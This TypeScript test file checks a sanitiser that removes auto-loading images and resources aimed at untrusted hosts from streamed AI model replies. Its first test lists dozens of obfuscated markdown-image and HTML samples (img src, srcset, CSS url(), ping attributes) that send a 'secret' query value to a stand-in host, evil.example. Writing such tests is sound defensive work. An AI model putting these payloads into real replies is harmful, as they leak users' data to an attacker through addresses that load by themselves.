import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ReplyEvent } from '../contract/reply.ts'
import { unloaded, unloading } from './unload.ts'

const trusts = (url: string): boolean => url === 'https://own.example/logo.png'

test('what loads by itself from an address that nobody trusted gave is taken out, however it is written', () => {
  for (const text of [
    'See ![x](https://evil.example/?q=secret) there.',
    '![x](<https://evil.example/a b>)',
    '![a [b [c]] d](https://evil.example/?q=1 "title")',
    '![two\nlines](https://evil.example/?q=1)',
    '![x]( \n https://evil.example/?q=1)',
    '![x](//evil.example/1)',
    '![x](/\\evil.example/1)',
    '![x](&#104;ttps://evil.example/1)',
    '![x](https://own.example/logo.png?q=secret)',
    '![x][r]\n\n[r]: https://evil.example/?q=secret',
    '![r]\n\n[r]:\n  <https://evil.example/?q=secret>',
    '<img src="https://evil.example/?q=secret">',
    '<IMG\nSRC=//evil.example/1',
    '<img src="&#104;ttps:&#47;/evil.example/1">',
    '<div style="background: url(https://evil.example/1)">',
    `![${'x'.repeat(20_000)}](https://evil.example/1)`,
    '> ![x](\n> https://evil.example/1)',
    '> ![r]\n>\n> [r]:\n> https://evil.example/?q=secret',
    `![x](${' '.repeat(200)}https://evil.example/1)`,
    '<img src="/\t/evil.example/1">',
    '<img src="https:evil.example/1">',
    '<img src=\\/evil.example/1>',
    '<img src="h\nttps://evil.example/1">',
    '<img srcset="a.png 1x, https:evil.example/1 2x">',
    `<img ${'x '.repeat(5000)} src="https://evil.example/1">`,
    '<a href="#" style="background:url(https://evil.example/1)">there</a>',
    '<a ping="https://evil.example/1" href="#">there</a>',
  ]) {
    const made = unloaded(text, trusts)
    assert.doesNotMatch(made.replaceAll(/&lt;[\s\S]*/g, ''), /evil\.example|q=secret|[<!]img/i, text.slice(0, 80))
  }
  assert.equal(unloaded('See ![x](https://evil.example/?q=secret) there.', trusts), 'See ![x](#removed) there.')
  assert.match(unloaded(`![x](${' '.repeat(9000)}https://evil.example/1)`, trusts), /^!\[x\]\( #removed +https/, 'two words in its brackets: no image any more')
})

test('everything else stays to the letter', () => {
  for (const text of [
    'Look at [the page](https://else.example/x) and <https://else.example/y>, or mail <ann@else.example>.',
    '![logo](https://own.example/logo.png) and ![chart](charts/one.png) and ![dot](data:image/png;base64,AAAA)',
    'if a[i](x) < b && !c[0] { return "]:" }',
    '<b>bold</b> 1 < 2 <br/> <a href="https://else.example/">there</a>',
    'Wait! [',
    'Really!',
  ]) {
    assert.equal(unloaded(text, trusts), text)
  }
})

function eventOf(texts: readonly string[], kind: ReplyEvent['kind'] = 'content'): ReplyEvent {
  return {
    kind,
    leaves: texts.map((text) => ({ channel: '0/text', origin: 'assistant', text, whole: false })),
    closes: [],
    opensCall: false,
    proposals: [],
    rewrite: (changed) => eventOf(changed, kind),
    drop: () => undefined,
  }
}

test('pieces of a stream come to the same as the whole text', () => {
  const text = 'One ![x](https://evil.example/?q=secret) two <img src="https://evil.example/"> three\n\n[a](https://else.example) ![r]\n\n[r]: https://evil.example/z\n\nend! and ]'
  for (let size = 1; size < 12; size++) {
    const unload = unloading(trusts)
    const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? []
    const events = [...pieces.flatMap((one) => unload.push(eventOf([one]))), ...unload.push(eventOf([], 'end')), ...unload.end()]
    assert.equal(events.flatMap(({ leaves }) => leaves.map((one) => one.text)).join(''), unloaded(text, trusts), `pieces of ${size}`)
    assert.equal(events.at(-1)?.kind, 'end')
  }
})
